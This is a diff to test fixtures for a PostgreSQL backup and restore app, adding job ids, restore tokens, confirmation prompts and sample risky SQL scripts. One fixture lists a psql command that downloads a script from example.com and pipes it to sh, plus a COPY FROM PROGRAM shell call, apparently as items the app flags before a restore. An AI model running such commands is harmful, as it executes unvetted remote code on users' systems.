@@ -14,15 +14,29 @@ import type {
 	JobSummary,
 	RestorePlan,
 	RestorePreflight,
+	RestoreRecord,
 	RestoreSafety,
 	ServerInfo,
 	Source,
 	Verification
 } from '../../src/lib/ipc/bindings';
 import type { MockConfig, MockControl, MockReply } from '../../src/lib/ipc/mock';
+import { defaultRestoreOptions } from '../../src/lib/options';
 
 export const NOW = new Date('2025-03-14T09:26:00Z');
 const MB = 1024 * 1024;
+
+/** Job ids as the backend has them: UUIDs, whoever started the job. */
+export const JOB_IDS = {
+	running: '3f2b8c1e-6a4d-4f0e-9b7a-1c5d2e8f4a60',
+	restoring: '8d4e2a17-b3c9-4e51-a6f2-7e0b9c3d1f82',
+	done: [
+		'0b6f3d2a-91c4-4a7e-8e15-2d9c6b7f0a13',
+		'5c1e9f4b-2d8a-4b36-97c0-e4a1f5d3b829',
+		'a7d3c5e1-4f2b-4c98-b6e0-9f1a2c4d6e57'
+	],
+	failed: 'e2c4a6b8-0d1f-4e3a-85b7-c9d1e3f5a7b0'
+};
 
 export const prod: ConnectionProfile = {
 	id: 'prod',
@@ -156,7 +170,7 @@ export const dumpLog = [
 
 function outcome(extra: Partial<JobOutcome>): JobOutcome {
 	return {
-		jobId: 'job',
+		jobId: JOB_IDS.done[0],
 		jobType: 'backup',
 		status: 'completed',
 		startedAt: '2025-03-14T09:26:10Z',
@@ -218,6 +232,7 @@ export const info: BackupInfo = {
 	compression: { algorithm: 'gzip', level: 6 },
 	gzippedPlain: false,
 	zstd: false,
+	script: { items: [], more: 0 },
 	contents: {
 		schemas: ['billing', 'public', 'reporting'],
 		tables: [
@@ -242,6 +257,30 @@ export const info: BackupInfo = {
 	entries: []
 };
 
+export const plainPath = '/home/alex/backups/shop_2025-03-10.sql';
+
+/** A SQL script someone edited: psql commands pg_dump never writes. */
+export const plainInfo: BackupInfo = {
+	...info,
+	path: plainPath,
+	format: 'plain',
+	sizeBytes: 1.4 * MB,
+	archiveVersion: null,
+	compression: { algorithm: 'none', level: null },
+	script: {
+		items: [
+			{ kind: 'metaCommand', line: 12, text: '\\! curl -s https://example.com/setup.sh | sh' },
+			{
+				kind: 'serverProgram',
+				line: 4810,
+				text: "COPY public.audit_log FROM PROGRAM 'gunzip -c /tmp/audit.gz'"
+			},
+			{ kind: 'metaCommand', line: 9021, text: '\\o /tmp/out.txt' }
+		],
+		more: 2
+	}
+};
+
 export function preflight(extra: Partial<RestorePreflight> = {}): RestorePreflight {
 	return {
 		server,
@@ -264,6 +303,20 @@ export function preflight(extra: Partial<RestorePreflight> = {}): RestorePreflig
 		...extra
 	};
 }
+
+/** A plain script's pre-flight: psql runs it. */
+export const plainPreflight = preflight({
+	tool: {
+		tool: {
+			...pgDumpTool,
+			name: 'psql',
+			path: '/usr/lib/postgresql/15/bin/psql',
+			versionText: 'psql (PostgreSQL) 15.18'
+		},
+		reason: 'runs SQL scripts and matches the server (15)'
+	},
+	command: `psql --host=db.example.com --port=5432 --username=app --dbname=shop --no-psqlrc --set=ON_ERROR_STOP=1 --single-transaction --file=${plainPath}`
+});
 
 export const cleanPreflight = preflight({
 	activeConnections: 3,
@@ -354,7 +407,7 @@ export function jobsList(): JobSummary[] {
 	});
 	return [
 		{
-			jobId: 'run-1',
+			jobId: JOB_IDS.running,
 			jobType: 'backup',
 			label: 'Backup to /home/alex/backups/shop_2025-03-14_0920',
 			status: 'running',
@@ -363,7 +416,7 @@ export function jobsList(): JobSummary[] {
 			outcome: null
 		},
 		{
-			jobId: 'run-2',
+			jobId: JOB_IDS.restoring,
 			jobType: 'restore',
 			label: 'Restore of /home/alex/backups/shop_2025-03-13_2300.backup',
 			status: 'running',
@@ -375,30 +428,36 @@ export function jobsList(): JobSummary[] {
 			}),
 			outcome: null
 		},
-		done('d-1', '/home/alex/backups/shop_2025-03-14_0600', 712 * MB, '2025-03-14T06:01:12Z', 7_400),
 		done(
-			'd-2',
+			JOB_IDS.done[0],
+			'/home/alex/backups/shop_2025-03-14_0600',
+			712 * MB,
+			'2025-03-14T06:01:12Z',
+			7_400
+		),
+		done(
+			JOB_IDS.done[1],
 			'/home/alex/backups/shop_2025-03-13_2300.backup',
 			734 * MB,
 			'2025-03-13T23:01:38Z',
 			94_000
 		),
 		done(
-			'd-3',
+			JOB_IDS.done[2],
 			'/home/alex/backups/shop_schema_only.sql',
 			184 * 1024,
 			'2025-03-11T16:42:00Z',
 			1_900
 		),
 		{
-			jobId: 'f-1',
+			jobId: JOB_IDS.failed,
 			jobType: 'backup',
 			label: 'Backup to /mnt/nas/shop.backup',
 			status: 'failed',
 			startedAt: '2025-03-14T08:00:00Z',
 			progress: null,
 			outcome: outcome({
-				jobId: 'f-1',
+				jobId: JOB_IDS.failed,
 				status: 'failed',
 				finishedAt: '2025-03-14T08:00:03Z',
 				error: {
@@ -580,12 +639,49 @@ export const noSafety: RestoreSafety = {
 	checksChecksum: false,
 	swapTarget: null,
 	swapTempDatabase: null,
-	swapKeepAs: null
+	swapKeepAs: null,
+	mustConfirm: [],
+	confirmName: null
 };
 
-export function restorePlan(p: RestorePreflight, safety: Partial<RestoreSafety> = {}): RestorePlan {
-	return { preflight: p, safety: { ...noSafety, ...safety } };
+/** A pre-flight's answer; the mock runs `restore_backup` only with its token and options. */
+export function restorePlan(
+	p: RestorePreflight,
+	safety: Partial<RestoreSafety> = {},
+	token = '9c2f6a1d8e4b7c3a5f0e2d9b6a8c4e1f'
+): RestorePlan {
+	return { preflight: p, safety: { ...noSafety, ...safety }, token };
 }
+
+/** What the backend asks to confirm before a clean restore into "shop". */
+export const cleanConfirm: Partial<RestoreSafety> = {
+	mustConfirm: ['clean drops 9 object(s) in "shop" before restoring'],
+	confirmName: 'shop'
+};
+
+/** A restore into a new database that stopped part way. */
+export const incompleteRestore: RestoreRecord = {
+	id: 'c4a9e2f1-7d3b-4b6a-9e0c-51f8a2d6b3e7',
+	host: 'db.example.com',
+	port: 5432,
+	database: 'shop_copy',
+	connectionId: 'prod',
+	inputPath: backupPath,
+	options: {
+		...defaultRestoreOptions('prod', backupPath),
+		targetDatabase: 'shop_copy',
+		createDatabase: true,
+		singleTransaction: false,
+		jobs: 4,
+		tables: ['public.customers', 'public.orders']
+	},
+	startedAt: '2025-03-14T08:12:00Z',
+	finishedAt: '2025-03-14T08:14:31Z',
+	status: 'failed',
+	incomplete: true,
+	createdDatabase: true,
+	error: 'the server closed the connection while public.orders was being restored'
+};
 
 /** Replies for an app with saved connections and nothing running. */
 export function baseReplies(): Record<string, MockReply> {
@@ -594,6 +690,7 @@ export function baseReplies(): Record<string, MockReply> {
 		list_jobs: { ok: [] },
 		list_backups: { ok: page() },
 		list_schedules: { ok: [] },
+		list_incomplete_restores: { ok: [] },
 		get_settings: { ok: { verifyAfterBackup: false } },
 		catalog_report: {
 			ok: { interrupted: [], rebuilt: false, damagedCopy: null, restoredFromCopy: 0, imported: 0 }
